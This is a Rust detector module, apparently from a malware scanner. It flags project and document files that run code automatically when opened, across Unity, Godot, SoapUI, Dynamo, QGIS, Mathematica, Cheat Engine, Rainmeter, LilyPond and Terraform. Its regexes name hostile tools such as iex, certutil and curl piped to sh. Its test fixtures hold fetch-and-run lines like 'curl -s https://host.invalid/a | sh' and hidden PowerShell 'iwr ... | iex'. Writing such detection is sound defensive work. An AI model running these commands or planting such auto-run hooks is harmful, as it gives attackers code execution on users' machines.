//! Files of programs that run code in them as soon as they are opened or imported: editor code of Unity, resources of Godot, projects
//! of SoapUI and QGIS, graphs of Dynamo, notebooks of Mathematica, tables of Cheat Engine, skins of Rainmeter, scores of LilyPond, and what
//! Terraform and Packer run on the machine itself.
//!
//! Most of them hold such code and mean no harm: told is what starts another program, or fetches something and runs it.

use super::ID;
use crate::text::{cut, decode, patterns};
use crate::{Findings, commands};
use lazaret_model::{Family, Finding, Part, Severity};
use regex::Regex;
use std::sync::LazyLock;

patterns! {
    // Scripting API of Unity, "InitializeOnLoadAttribute": run whenever the editor starts or compiles.
    UNITY = r"\bInitializeOnLoad(?:Method)?(?:Attribute)?\b|\bDidReloadScripts\b|:\s*AssetPostprocessor\b";
    STARTS = r"\bProcess\s*\.\s*Start\b|\bProcessStartInfo\b|\bnew\s+(?:System\s*\.\s*Diagnostics\s*\.\s*)?Process\b|\bAssembly\s*\.\s*Load\s*\(";
    HIDDEN = r"(?i)\s-w\w*\s+(?:h|1\b)|\s-e(?:c|nc?|ncodedcommand)\s|\b(?:iwr|irm|iex|invoke-(?:webrequest|restmethod|expression)|downloadstring|frombase64string|mshta|bitsadmin|certutil|regsvr32)\b|\b(?:curl|wget)\b[^\r\n|]*\|\s*(?:ba|z)?sh\b";
    DOWNLOADS = r"\bDownload(?:File|Data|String)(?:Async|TaskAsync)?\s*\(|\bUnityWebRequest\b|\bGet(?:ByteArray|String|Stream)Async\s*\(";
    // A script within a resource, which runs when the resource is loaded, and what it starts.
    GODOT = r#"(?s)\[(?:sub_resource|gd_resource)\b[^\]\r\n]*\btype\s*=\s*"GDScript""#;
    GODOT_STARTS = r"\bOS\s*\.\s*(?:execute\w*|create_process|create_instance|call)\s*\(";
    SOAPUI = r"(?:^|[<:])soapui-project\b";
    SOAPUI_RUNS = r"<(?:\w+:)?(?:afterLoadScript|beforeSaveScript)\b[^<>]*>(?:<!\[CDATA\[)?\s*[^<\s]";
    GROOVY_STARTS = r"\.\s*execute\s*\(\s*\)|\bProcessBuilder\b|\bgetRuntime\b|\bRuntime\s*\.|\bURLClassLoader\b|\bevaluate\s*\(";
    DYNAMO = r#""RunType"\s*:\s*"(?:Automatic|Periodic)""#;
    DYNAMO_CODE = r#""(?:NodeType|ConcreteType)"\s*:\s*"[^"]*Python"#;
    // In JSON a letter that stands for a line's end may stand before a word.
    PYTHON_STARTS = r"(?:\b|\\[nrt])(?:os\s*\.\s*(?:system|popen|startfile|exec[lv]\w*)|subprocess)\b|\bProcess\s*\.\s*Start\b|\bWebClient\b|\b__import__\b|\bexec\s*\(";
    QGIS = r"<pythonCode\b";
    // Code that somebody wrote is kept as boxes; what runs by itself is kept as it is evaluated.
    MATHEMATICA = r"\bDynamic(?:Module)?(?:Box)?\s*\[|\bInitializationCell\s*->\s*True\b";
    MATHEMATICA_STARTS = r#"\b(?:Run|RunProcess|StartProcess|RunThrough)\s*\[\s*[{"]|\b(?:Import|Get|ReadList|OpenRead|ReadString)\s*\[\s*"\s*!"#;
    CHEATS = r"<CheatTable\b";
    LUA_STARTS = r"\bos\s*\.\s*execute\b|\bio\s*\.\s*popen\b";
    RAINMETER = r"(?im)^\s*\[rainmeter\]";
    LILYPOND = r"\\(?:version|score|relative|header|paper)\b";
    SCHEME_STARTS = r#"\(\s*(?:system\*?|primitive-fork|execl[pe]?|open-(?:input-|output-|input-output-)?pipe\*?)\s+(?:"|\(\s*(?:string-append|format)\b)"#;
    TERRAFORM = r#"\b(?:provisioner\s+"(?:local-exec|shell-local)"|data\s+"external"\s+"[^"\r\n]*"|post-processor\s+"shell-local")\s*\{(?P<body>(?:[^{}]|\{[^{}]*\})*)"#;
}

/// What a kind of file runs.
struct Rule {
    /// How its names end.
    endings: &'static [&'static str],
    /// What says that it is one, and runs something by itself; what counts may stand in a group `body` of it.
    opens: &'static LazyLock<Regex>,
    does: Does,
    message: &'static str,
}

/// What counts.
enum Does {
    /// All of these are there.
    All(&'static [&'static LazyLock<Regex>]),
    /// A line fetches something and runs it.
    Fetches,
}

static RULES: &[Rule] = &[
    Rule {
        endings: &[".cs", "/asset"],
        opens: &UNITY,
        does: Does::All(&[&STARTS, &HIDDEN]),
        message: "Unity runs a command by itself once the file is in a project",
    },
    Rule {
        endings: &[".cs", "/asset"],
        opens: &UNITY,
        does: Does::All(&[&STARTS, &DOWNLOADS]),
        message: "Unity fetches something and runs it by itself once the file is in a project",
    },
    Rule {
        endings: &[".tres", ".tscn"],
        opens: &GODOT,
        does: Does::All(&[&GODOT_STARTS]),
        message: "Godot starts a program when the file is loaded",
    },
    Rule {
        endings: &[".xml"],
        opens: &SOAPUI,
        does: Does::All(&[&SOAPUI_RUNS, &GROOVY_STARTS]),
        message: "SoapUI starts a program when the project is opened",
    },
    Rule {
        endings: &[".dyn", ".dyf"],
        opens: &DYNAMO,
        does: Does::All(&[&DYNAMO_CODE, &PYTHON_STARTS]),
        message: "Dynamo starts a program when the graph is opened",
    },
    Rule {
        endings: &[".qgs"],
        opens: &QGIS,
        does: Does::All(&[&PYTHON_STARTS]),
        message: "QGIS starts a program when the project is opened and its macros are allowed",
    },
    Rule {
        endings: &[".nb", ".cdf"],
        opens: &MATHEMATICA,
        does: Does::All(&[&MATHEMATICA_STARTS]),
        message: "Mathematica starts a program when the notebook is shown",
    },
    Rule {
        endings: &[".ct"],
        opens: &CHEATS,
        does: Does::All(&[&LUA_STARTS]),
        message: "Cheat Engine starts a program when the table is opened",
    },
    Rule {
        endings: &[".ini", ".inc"],
        opens: &RAINMETER,
        does: Does::Fetches,
        message: "Rainmeter fetches something and runs it when the skin is shown",
    },
    Rule {
        endings: &[".ly", ".ily"],
        opens: &LILYPOND,
        does: Does::All(&[&SCHEME_STARTS]),
        message: "LilyPond starts a program when the score is set",
    },
    Rule {
        endings: &[".tf", ".tofu", ".hcl"],
        opens: &TERRAFORM,
        does: Does::Fetches,
        message: "the machine itself fetches something and runs it when the plan is carried out",
    },
];

/// Whether such code may be in a part: programs know these files by their names.
pub(super) fn wants(part: &Part) -> bool {
    part.named && !part.kind.class.runs() && rules(part).next().is_some()
}

fn rules(part: &Part) -> impl Iterator<Item = &'static Rule> {
    let name = part.name.replace('\\', "/").to_lowercase();
    RULES.iter().filter(move |rule| rule.endings.iter().any(|ending| name.ends_with(ending)))
}

/// Looks at a part that may hold such code, of which `bytes` are those from `offset` on.
pub(super) fn look(part: &Part, bytes: &[u8], offset: u64, findings: &mut Findings) {
    if !findings.step(bytes.len() as u64) {
        return;
    }
    let text = decode(bytes);
    // What says that it is one may stand in another piece.
    let whole = offset == 0 && bytes.len() as u64 >= part.size;
    let mut told = rules(part).filter_map(|rule| Some((rule, rule.look(&text, whole)?)));
    if let Some((rule, value)) = told.next() {
        let found = Finding::new("hooks.folder-open", ID, Severity::Medium, Family::Behaviour, rule.message);
        findings.add(found.with("value", cut(&value)).technique("T1204.002").technique("T1059"));
    }
}

impl Rule {
    /// What of a text counts.
    fn look(&self, text: &str, whole: bool) -> Option<String> {
        match &self.does {
            Does::All(patterns) => {
                if whole && !self.opens.is_match(text) {
                    return None;
                }
                let mut found = patterns.iter().map(|pattern| pattern.find(text));
                let first = found.next()??;
                found.all(|other| other.is_some()).then(|| first.as_str().to_owned())
            }
            Does::Fetches => self.opens.captures_iter(text).find_map(|found| {
                let body = found.name("body").map_or(text, |body| body.as_str());
                // Programs and arguments may each have quotes of their own.
                let fetches = |line: &&str| commands::fetch(line) || commands::fetch(&line.replace('"', " "));
                body.lines().find(fetches).map(str::to_owned)
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::Settings;
    use crate::testing::{ids, part};
    use lazaret_model::Class;

    #[track_caller]
    fn check(name: &str, text: &str, expected: &[&str]) {
        let mut part = part(name, "text", Class::Text);
        part.size = text.len() as u64;
        assert_eq!(ids(&Settings, &part, text.as_bytes()), expected, "{name}: {text}");
    }

    #[test]
    fn files_that_start_a_program_when_they_are_opened_are_found() {
        for (name, text) in [
            (
                "Assets/A/Editor/A.cs",
                "[InitializeOnLoad]\nclass A { static A() { Process.Start(\"powershell\", \"-w hidden -c iwr host.invalid\"); } }",
            ),
            (
                "0123456789abcdef0123456789abcdef/asset",
                "[UnityEditor.InitializeOnLoadMethod]\nstatic void A() { new WebClient().DownloadFile(u, p); System.Diagnostics.Process.Start(p); }",
            ),
            (
                "save.tres",
                "[gd_resource type=\"Resource\" format=3]\n[sub_resource type=\"GDScript\" id=\"1\"]\nscript/source = \"func _init():\n\tOS.execute(\\\"sh\\\", [])\n\"\n",
            ),
            (
                "a.xml",
                "<con:soapui-project xmlns:con=\"http://eviware.com/soapui/config\"><con:afterLoadScript>\"calc\".execute()</con:afterLoadScript></con:soapui-project>",
            ),
            (
                "a.dyn",
                r#"{"Nodes": [{"NodeType": "PythonScriptNode", "Code": "import os\nos.system('calc')"}], "View": {"Dynamo": {"RunType": "Automatic"}}}"#,
            ),
            ("a.qgs", "<qgis><pythonCode>import os\ndef openProject():\n os.system('calc')</pythonCode></qgis>"),
            ("a.nb", "Notebook[{Cell[BoxData[DynamicBox[ToBoxes[Run[\"calc\"]]]]]}]"),
            ("A.CT", "<CheatTable><LuaScript>os.execute('calc')</LuaScript></CheatTable>"),
            (
                "Skins/a/a.ini",
                "[Rainmeter]\nOnRefreshAction=[\"powershell\" \"-c iwr https://host.invalid/a | iex\"]\n",
            ),
            ("a.ly", "\\version \"2.24.0\"\n#(system \"calc\")\n{ c }\n"),
            (
                "main.tf",
                "resource \"a\" \"b\" {\n provisioner \"local-exec\" {\n  command = \"echo ${a.b}; curl -s https://host.invalid/a | sh\"\n }\n}\n",
            ),
            (
                "main.tf",
                "data \"external\" \"a\" {\n program = [\"sh\", \"-c\", \"curl -s https://host.invalid/a | sh\"]\n}\n",
            ),
            (
                "a.pkr.hcl",
                "build {\n provisioner \"shell-local\" {\n  inline = [\"curl -s https://host.invalid/a | sh\"]\n }\n}\n",
            ),
        ] {
            check(name, text, &["hooks.folder-open"]);
        }
    }

    #[test]
    fn ordinary_projects_are_left_alone() {
        for (name, text) in [
            (
                "Assets/A/Editor/A.cs",
                "[InitializeOnLoad]\nclass A { static A() { Process.Start(\"https://host.invalid/docs\"); } }",
            ),
            ("A.cs", "class A { void B() { new WebClient().DownloadFile(u, p); Process.Start(p); } }"),
            (
                "a.tscn",
                "[gd_scene]\n[sub_resource type=\"GDScript\" id=\"1\"]\nscript/source = \"func a():\n\tOS.shell_open(\\\"https://host.invalid\\\")\n\"\n",
            ),
            ("a.tres", "[gd_resource type=\"Theme\"]\ndescription = \"OS.execute() runs a program\"\n"),
            ("a.xml", "<con:soapui-project><con:afterLoadScript/></con:soapui-project>"),
            (
                "a.dyn",
                r#"{"Nodes": [{"NodeType": "PythonScriptNode", "Code": "import os\nos.system('calc')"}], "View": {"Dynamo": {"RunType": "Manual"}}}"#,
            ),
            (
                "a.nb",
                "Notebook[{Cell[BoxData[RowBox[{\"Run\", \"[\", \"\\\"\\<calc\\>\\\"\", \"]\"}]]], DynamicBox[x]}]",
            ),
            ("A.CT", "<CheatTable><LuaScript>shellExecute('https://host.invalid')</LuaScript></CheatTable>"),
            ("a.ini", "[Rainmeter]\nUpdate=1000\n[M]\nPlugin=RunCommand\nProgram=powershell\nParameter=Get-Date\n"),
            ("a.qgs", "<qgis><pythonCode>def openProject():\n pass</pythonCode></qgis>"),
            ("a.ly", "\\version \"2.24.0\"\n#(let ((system (ly:grob-system grob))) system)\n"),
            // What another machine runs when it starts, and a command of one's own.
            (
                "main.tf",
                "resource \"a\" \"b\" {\n user_data = <<EOT\ncurl -fsSL https://host.invalid/a | sh\nEOT\n provisioner \"local-exec\" {\n  command = \"echo done\"\n }\n}\n",
            ),
        ] {
            check(name, text, &[]);
        }
    }
}
